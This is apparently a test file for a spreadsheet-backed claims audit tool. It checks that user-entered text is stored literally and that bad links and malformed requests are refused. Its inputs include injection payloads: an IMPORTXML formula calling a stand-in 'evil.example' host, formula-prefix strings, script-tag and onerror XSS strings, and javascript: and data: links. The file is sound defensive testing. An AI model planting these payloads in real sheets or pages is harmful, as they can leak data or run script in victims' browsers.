/** Texts that want to be formulas, pages or other people's cells, in every field a user can fill. */
import { beforeAll, describe, expect, it } from "vitest";
import type { ClaimDetail } from "../../../intake/server.ts";
import { ANNA, AS_OF, Desk, operation, stepOf } from "./desk.ts";

const TEXTS = [
  '=IMPORTXML("https://evil.example","//a")',
  "+1+1",
  "-1",
  "@SUM(A1)",
  '<img src=x onerror="alert(1)">',
  "</script><script>alert(1)</script>",
  "0012E5",
  "1-2",
  "2026-07-20",
  "\u202Eright to left",
  "😀🏷️",
  "x".repeat(2000),
];

describe.each([true, false])("a sheet whose text format keeps formulas: %s", (textFormatKeepsFormulas) => {
  let desk: Desk;
  let claim: ClaimDetail;

  beforeAll(async () => {
    desk = await Desk.audited({ textFormatKeepsFormulas });
    claim = await desk.started(await desk.toFile());
  }, 120_000);

  const formulas = () =>
    ["Claim Log", "Claims", "Findings"].flatMap((name) => Object.values(desk.sheet(name).formulas));

  it("holds them as the texts they are, in the log and everywhere else, through a rebuild", async () => {
    for (const text of TEXTS) {
      const noted = await desk.as(ANNA).claimNote({
        id: claim.claim.id,
        version: claim.version,
        operation: operation(),
        note: text,
      });
      expect(noted.refused, text.slice(0, 40)).toBeNull();
      expect(noted.fresh.log[0]?.note).toBe(text);
      const proof = await desk.as(ANNA).claimEvidence({
        id: claim.claim.id,
        version: noted.fresh.version,
        operation: operation(),
        kind: "other",
        link: `https://example.com/${operation()}`,
        date: null,
        proves: text,
      });
      expect(proof.refused, text.slice(0, 40)).toBeNull();
      claim = proof.fresh;
      expect(claim.evidence.at(-1)?.proves).toBe(text);
    }
    const notes = desk.rows("Claim Log").flatMap((row) => (row["Kind"] === "note" ? [row["Note"]] : []));
    expect(notes).toEqual(TEXTS);
    expect(formulas()).toEqual([]);
    const { edits } = await desk.as(ANNA).claimsRebuild({});
    expect(edits).toEqual([]);
    expect(formulas()).toEqual([]);
  });

  it("dismisses a finding for such a reason", async () => {
    const finding = await desk.toFile();
    const answer = await desk.as(ANNA).findingDismiss({
      id: finding.finding.id,
      version: "",
      operation: operation(),
      reason: TEXTS[0] ?? "",
    });
    expect(answer.fresh.history[0]?.note).toBe(TEXTS[0]);
    expect(formulas()).toEqual([]);
  });

  it("refuses in a sentence what is no such thing, and changes nothing", async () => {
    const before = desk.workbook.snapshot();
    const change = { id: claim.claim.id, version: claim.version, operation: operation() };
    const links = [
      "javascript:alert(1)",
      "http://example.com",
      "https://a b.com",
      "https://",
      "data:text/html,x",
    ];
    for (const link of links) {
      const step = stepOf(claim, { to: "filed", caseId: "12345678901", link });
      const { refused } = await desk.as(ANNA).claimStep(step);
      expect(refused, link).not.toBeNull();
    }
    for (const caseId of ["=1+1", "<b>", "😀", "1".repeat(60), "1E+15", ""]) {
      const { refused } = await desk.as(ANNA).claimStep(stepOf(claim, { to: "filed", caseId }));
      expect(refused, caseId).not.toBeNull();
    }
    const bad: [string, unknown][] = [
      ["claimNote", null],
      ["claimNote", { ...change, note: 1 }],
      ["claimNote", { ...change, note: "x".repeat(50_000) }],
      ["claimNote", { ...change, note: "x", more: 1 }],
      ["claimNote", { ...change, note: "x", operation: "short" }],
      ["claimStep", { ...stepOf(claim, { to: "filed" }), to: "won" }],
      ["claimStep", { ...stepOf(claim, { to: "filed" }), units: "1" }],
      ["claimStep", { ...stepOf(claim, { to: "filed" }), on: "yesterday" }],
      ["claimDetail", { id: "" }],
      ["claimDetail", {}],
      ["findingsList", { from: -1, revision: null }],
      ["findingSnooze", { ...change, until: "soon", reason: "" }],
      ["settingsSave", { dailyCap: 0, userName: null }],
      ["settingsSave", { dailyCap: null, userName: "" }],
      ["showLine", { report: "ledger-detail", line: 1, findingId: null }],
      ["paymentConfirm", { ...change, claimId: claim.claim.id }],
      ["selection", { more: 1 }],
      ["setUp", "now"],
    ];
    for (const [name, request] of bad) {
      await expect(
        desk.call(ANNA, name, request),
        `${name} ${JSON.stringify(request).slice(0, 80)}`,
      ).rejects.toThrow(/can't be carried out: .*Nothing was changed/);
    }
    await expect(desk.as(ANNA).claimDetail({ id: "C-no-such" })).rejects.toThrow(
      "There is no claim C-no-such",
    );
    await expect(desk.as(ANNA).findingDetail({ id: "__proto__" })).rejects.toThrow("not in the Findings tab");
    expect(desk.workbook.snapshot()).toEqual(before);
  });

  it("has no name a user may take that is a formula", async () => {
    await desk.as(ANNA).settingsSave({ userName: "=1+1", dailyCap: 3 });
    expect((await desk.as(ANNA).sidebarStart({})).settings).toEqual({ dailyCap: 3 });
    expect(formulas()).toEqual([]);
    expect((await desk.as(ANNA).auditSummary({ asOf: AS_OF, marketplace: null })).asOf).toBe(AS_OF);
  });
});
